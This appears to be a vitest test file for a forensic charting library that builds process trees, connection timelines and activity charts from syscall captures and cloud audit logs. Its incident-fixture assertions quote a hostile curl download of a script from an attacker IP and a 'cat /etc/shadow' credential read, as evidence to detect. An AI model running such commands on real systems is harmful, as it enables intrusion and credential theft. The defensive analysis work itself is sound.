/**
 * Chart specs from real and fixture data, their SVG labels and PNG sizes,
 * empty tables, and folding of wide process trees.
 */
import { describe, it, expect, beforeAll } from 'vitest';
import * as aq from 'arquero';
import path from 'node:path';
import * as sl from '../../src/index.js';
import { buildProcessTree, foldTree, processTreeText, type ProcessTreeNode } from '../../src/charts/proctree.js';
import { toSVG, toPNG } from '../../src/charts/render.js';
import { captureProcesses } from '../../src/sources/scap/processes.js';
import { repoRoot, sharedData, needSharedData, skip } from '../helpers.js';

const fixture = (rel: string) => path.join(repoRoot, 'fixtures', rel);
type Spec = Record<string, any> & { $schema: string };

/** Width and height from a PNG's IHDR chunk. */
function pngSize(png: Uint8Array): { width: number; height: number } {
  const dv = new DataView(png.buffer, png.byteOffset, png.byteLength);
  expect([...png.subarray(0, 8)]).toEqual([137, 80, 78, 71, 13, 10, 26, 10]);
  return { width: dv.getUint32(16), height: dv.getUint32(20) };
}

/** All data values of a (possibly layered or concatenated) spec. */
function values(spec: Spec): Record<string, any>[] {
  const out: Record<string, any>[] = [...(spec.data?.values ?? [])];
  for (const sub of [...(spec.layer ?? []), ...(spec.vconcat ?? []), ...(spec.hconcat ?? [])]) out.push(...values(sub));
  return out;
}

describe.skipIf(skip(needSharedData('scap/curl_google.scap')))('charts on curl_google.scap (curl -6 http://www.google.com)', () => {
  let t: sl.Table;
  beforeAll(async () => {
    t = await sl.load(sharedData('scap/curl_google.scap'));
  });

  it('process tree: curl under bash, marked for its connects', () => {
    const roots = buildProcessTree(t, { mark: 'evt.type = connect' });
    const text = processTreeText(roots);
    expect(text).toMatch(/^bash \(3200\)/m);
    expect(text).toMatch(/└─ curl -6 http:\/\/www\.google\.com \(17497\)\s+\*/);
    const spec = sl.charts.processTree(t, { mark: 'evt.type = connect' }) as Spec;
    const nodes = values(spec).filter((v) => 'label' in v);
    expect(nodes.find((n) => n.name === 'curl')?.marked).toBe('yes');
  });

  it('connect timeline: one lane per destination, DNS and HTTP over IPv6', async () => {
    const spec = sl.charts.connectTimeline(t) as Spec;
    const lanes = new Set(values(spec).map((v) => v.endpoint));
    expect(lanes).toContain('[2001:4860:4860::8888]:53');
    expect(lanes).toContain('[2607:f8b0:4004:802::2004]:80');
    const svg = await toSVG(spec);
    expect(svg).toContain('[2607:f8b0:4004:802::2004]:80');
    expect(svg).toContain('Network connections over time');
    expect(svg).toContain('Time (UTC)');
  });

  it('I/O graph: the counts of each series add up to the filter counts', () => {
    const series = ['evt.type = connect', 'proc.name = curl'];
    const spec = sl.charts.ioGraph(t, { series }) as Spec;
    for (const s of series) {
      const total = values(spec).filter((v) => v.series === s).reduce((a, v) => a + v.events, 0);
      expect(total).toBe(sl.compile(s).count(t));
    }
  });
});

describe('charts on the incident fixtures', () => {
  let scap: sl.Table;
  let ct: sl.Table;
  let gcp: sl.Table;
  beforeAll(async () => {
    [scap, ct, gcp] = await Promise.all([sl.load(fixture('scap/incident.scap')), sl.load(fixture('cloudtrail')), sl.load(fixture('gcp'))]);
  });

  it('process tree from the capture state: the container lineage up to systemd, the attack chain marked', async () => {
    const processes = await captureProcesses(fixture('scap/incident.scap'));
    const text = processTreeText(buildProcessTree(scap, { processes, mark: 'evt.type = connect' }));
    // ground truth: fixtures/scap/README.md
    expect(text).toMatch(/^systemd .*\(1\)/m);
    expect(text).toMatch(/containerd-shim .*\(2210\)[\s\S]*gunicorn .*\(2231\)[\s\S]*gunicorn .*\(2245\)[\s\S]*sh -c curl .*\(4101\)[\s\S]*curl -s http:\/\/198\.51\.100\.77:4444\/x\.sh -o \/tmp\/\.x\.sh \(4102\).*\*/);
    expect(text).toMatch(/cat \/etc\/shadow \(4104\)/);
    expect(text).toMatch(/python3 .*\(4105\).*\*/);
  });

  it('renders each kind to a PNG of the expected size', async () => {
    const specs = {
      proctree: sl.charts.processTree(scap),
      connections: sl.charts.connectTimeline(scap),
      iograph: sl.charts.ioGraph(scap, { series: ['evt.type = read', 'evt.type = write'] }),
      activity: sl.charts.activity(ct, { panel: 'heatmap' }),
      timeline: sl.charts.timeline({ 'GCP audit': gcp, syscalls: scap }),
    };
    for (const [kind, spec] of Object.entries(specs)) {
      const png = await toPNG(spec);
      const { width, height } = pngSize(png);
      expect(width, kind).toBeGreaterThanOrEqual(760);
      expect(width, kind).toBeLessThan(2000);
      expect(height, kind).toBeGreaterThan(100);
      // the SVG has the same size as its viewBox says
      const svg = await toSVG(spec);
      const m = /width="(\d+)" height="(\d+)"/.exec(svg)!;
      expect(Number(m[1])).toBe(width);
      expect(Number(m[2])).toBe(height);
    }
  });

  it('CloudTrail activity: the leaked key user, AccessDenied among the errors, the attacker IPs', async () => {
    const spec = sl.charts.activity(ct) as Spec;
    const v = values(spec);
    expect(v.some((x) => x.principal === 'ci-deploy')).toBe(true);
    expect(v.some((x) => x.error === 'AccessDenied' || x.error === 'AccessDeniedException')).toBe(true);
    expect(v.some((x) => x.ip === '203.0.113.77')).toBe(true);
    const svg = await toSVG(sl.charts.activity(ct, { panel: 'sourceips' }));
    expect(svg).toContain('203.0.113.77');
    expect(svg).toContain('Calls by source IP');
  });

  it('GCP activity: PERMISSION_DENIED errors of the CI service account', () => {
    const v = values(sl.charts.activity(gcp, { panel: 'errors' }) as Spec);
    expect(v.filter((x) => x.error === 'PERMISSION_DENIED').reduce((a, x) => a + x.count, 0)).toBe(4);
  });

  it('timeline: syscall and GCP lanes on one axis', () => {
    const spec = sl.charts.timeline({ 'GCP audit': gcp, syscalls: scap }) as Spec;
    const lanes = new Set(values(spec).map((v) => v.lane));
    expect([...lanes].sort()).toEqual(['GCP audit', 'syscalls']);
  });

  it('every kind gives a "no events" chart for an empty table', async () => {
    const empty = scap.filter(() => false);
    const emptyCt = ct.filter(() => false);
    const specs = [
      sl.charts.processTree(empty),
      sl.charts.connectTimeline(empty),
      sl.charts.ioGraph(empty),
      sl.charts.activity(emptyCt),
      sl.charts.timeline(empty),
    ];
    for (const s of specs) {
      const svg = await toSVG(s);
      expect(svg).toMatch(/no (events|processes|connect)/);
    }
  });
});

describe('wide process trees stay readable', () => {
  it('folds siblings beyond the limit into "+N more", keeping marked ones', () => {
    const n = 600;
    const pid = [1, ...Array.from({ length: n }, (_, i) => 1000 + i)];
    const t = aq.table({
      time: pid.map((_, i) => new Date(1e12 + i)),
      'proc.pid': pid,
      'proc.ppid': [0, ...Array(n).fill(1)],
      'proc.name': ['init', ...Array(n).fill('worker')],
      'evt.type': ['execve', ...pid.slice(1).map((p) => (p === 1500 ? 'connect' : 'read'))],
    });
    const roots = foldTree(buildProcessTree(t, { mark: 'evt.type = connect' }), 20);
    const kids = roots[0]!.children;
    expect(kids).toHaveLength(21);
    expect(kids.at(-1)!.proc.name).toBe('+580 more');
    expect(kids.some((k: ProcessTreeNode) => k.proc.pid === 1500 && k.proc.marked)).toBe(true);
    const spec = sl.charts.processTree(t, { mark: 'evt.type = connect' }) as Spec;
    expect((spec.height as number) / 20).toBeLessThanOrEqual(22);
  });
});
